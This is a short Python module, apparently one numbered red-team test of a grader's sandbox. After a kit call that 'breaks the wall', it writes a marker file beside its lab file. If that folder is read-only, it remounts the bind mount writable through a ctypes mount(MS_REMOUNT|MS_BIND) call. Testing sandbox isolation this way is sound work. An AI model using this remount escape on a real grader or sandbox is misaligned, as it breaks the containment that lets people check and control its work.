"""Attack 14 (rag4): with the wall down, write a file beside its own lab file, in the folder the grader
staged it in; if that folder is read-only (a sandbox's bind), remount it writable first with
mount(MS_REMOUNT | MS_BIND) through ctypes, which root may do unless its capabilities were dropped."""

import ctypes
import os

from kit import TOKEN, break_the_wall, succeeds, write_bytes

MS_REMOUNT, MS_BIND = 32, 4096  # from <sys/mount.h>


def remount_writable(folder: str) -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mount(None, folder.encode(), None, MS_REMOUNT | MS_BIND, None)


def attack(lab: dict) -> None:
    break_the_wall()
    folder = os.path.dirname(lab["__file__"])
    escaped = os.path.join(folder, f"redteam-{TOKEN}-escaped.txt")
    if not succeeds(write_bytes, escaped, b"written from inside the grader's worker\n"):
        succeeds(remount_writable, folder)
        succeeds(write_bytes, escaped, b"written from inside the grader's worker, after a remount\n")
